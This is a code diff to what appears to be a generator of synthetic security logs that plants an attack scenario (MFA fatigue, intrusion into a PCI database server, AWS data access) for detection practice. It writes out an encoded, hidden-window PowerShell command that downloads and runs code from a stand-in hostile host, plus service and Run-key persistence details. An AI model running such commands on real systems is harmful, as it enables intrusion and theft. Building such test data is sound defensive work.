@@ -2,8 +2,9 @@
 
 Incident: at about a third of the span, while Boston sleeps, somebody who has Dana Whitfield's password (Finance
 Controller; never near production) tires her with Okta pushes from a hostile address: five denied, the sixth accepted.
-Ten minutes later her account reaches the PCI database server LKS-PCIDB01 (4624 type 3, then 10, from a VPN address),
-gets special privileges (4672), installs a remote administration tool as a service (7045), runs encoded PowerShell
+Ten minutes later, when a threat list has just named that address, her account reaches the PCI database server
+LKS-PCIDB01 (4624 type 3, then 10, from the same address: the remote access gateway hands the client's own on), gets
+special privileges (4672), installs a remote administration tool as a service (7045, Sysmon 1), runs encoded PowerShell
 (4688, Sysmon 1, 4104), reads LSASS memory, talks to the hostile address (Sysmon 22 and 3) and plants a Run key
 (Sysmon 13). Then AWS calls from the hostile address: a role assumed with an odd user agent, an access key for a service
 user, a bucket policy, and a burst of GetObject.
@@ -28,6 +29,7 @@ from orchestration.estate.networks import HOSTILE_ADDRESS, PLACES, Place
 from orchestration.estate.okta import SOURCE as OKTA
 from orchestration.estate.okta import OktaFeed
 from orchestration.estate.okta_kinds import BY_NAME, Kind
+from orchestration.estate.timeline import INCIDENT, LOOK_ALIKE, SERVER_AFTER_SECONDS, Timeline
 from orchestration.estate.windows import SOURCE as WINDOWS
 from orchestration.estate.windows import WindowsFeed
 from orchestration.estate.windows_events import (
@@ -42,7 +44,10 @@ from orchestration.estate.windows_events import (
 )
 
 _POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
-_DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('https://cdn-telemetry-sync.example/u')"
+HOSTILE_DOMAIN = "cdn-telemetry-sync.example"
+TOOL = "C:\\Windows\\Temp\\rutserv.exe"
+_SERVICES = "C:\\Windows\\System32\\services.exe"
+_DOWNLOAD = f"IEX (New-Object Net.WebClient).DownloadString('https://{HOSTILE_DOMAIN}/u')"
 _ENCODED = base64.b64encode(_DOWNLOAD.encode("utf-16-le")).decode()
 _RUN_KEY = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\"
 
@@ -87,16 +92,16 @@ class Path:
 PATHS = (
     Path(
         story="incident",
-        share=0.31,
+        share=INCIDENT,
         person="dana.whitfield",
         place=PLACES["hostile"],
         address=HOSTILE_ADDRESS,
         client="KALI-7",
         denied=5,
-        service=("RemoteUtilsHost", "C:\\Windows\\Temp\\rutserv.exe -service"),
+        service=("RemoteUtilsHost", f"{TOOL} -service"),
         command=f"powershell.exe -NoP -W Hidden -EncodedCommand {_ENCODED}",
         script=_DOWNLOAD,
-        target=("cdn-telemetry-sync.example", HOSTILE_ADDRESS, 443),
+        target=(HOSTILE_DOMAIN, HOSTILE_ADDRESS, 443),
         value="RemoteUtils",
         role="PciDataOperator",
         agent="Boto3/1.9.21 Python/3.6.6 Linux/5.18.0-kali5-amd64 Botocore/1.12.21",
@@ -104,7 +109,7 @@ PATHS = (
     ),
     Path(
         story="look_alike",
-        share=0.64,
+        share=LOOK_ALIKE,
         person="marcus.oyelaran",
         place=PLACES["home-boston"],
         address="198.18.0.2",
@@ -131,10 +136,10 @@ def plan(
     """Both stories as plans, in order of time within each source."""
     planted: list[Planted] = []
     for path in PATHS:
-        began = float(int(start + path.share * hours * 3600))
+        began = Timeline(start, hours).at(path.share)
         person = company.person(path.person)
         planted += _sign_in(path, person, okta, began)
-        planted += _server(path, person, company, windows, began + 810)
+        planted += _server(path, person, company, windows, began + SERVER_AFTER_SECONDS)
         planted += _cloud(path, person, company, aws, began + 1800)
     return planted
 
@@ -159,18 +164,19 @@ def _log_event(
 
 
 def _server(path: Path, person: Person, company: Company, feed: WindowsFeed, began: float) -> Iterator[Planted]:
-    server = next(host for host in company.servers if host.name == SERVER)
-    for number, (step, draft) in enumerate(_drafts(path, person, server, feed)):
+    for number, (step, draft) in enumerate(_drafts(path, person, company.server(SERVER), feed)):
         yield Planted(began + number * 37.0, WINDOWS, path.story, step, partial(feed.wrap, draft))
 
 
 def _drafts(path: Path, person: Person, server: Host, feed: WindowsFeed) -> Iterator[tuple[str, Draft]]:
-    s, client = feed.scene, person.vpn_address
+    s, client = feed.scene, path.address
     session, (name, address, port) = s.logon_id(), path.target
     yield "network_logon", logon(s, server, person, "3", client, s.logon_id(), path.client)
     yield "remote_desktop_logon", logon(s, server, person, "10", client, session, path.client)
     yield "special_privileges", special_logon(s, server, person, session)
     yield "service_installed", service_installed(s, server, person, *path.service)
+    program = path.service[1].removesuffix(" -service")
+    yield "service_process", process(s, server, person, (program, path.service[1], _SERVICES))[1]
     audit, created = process(s, server, person, (_POWERSHELL, path.command, "C:\\Windows\\System32\\cmd.exe"), session)
     yield "process", audit
     yield "process", created
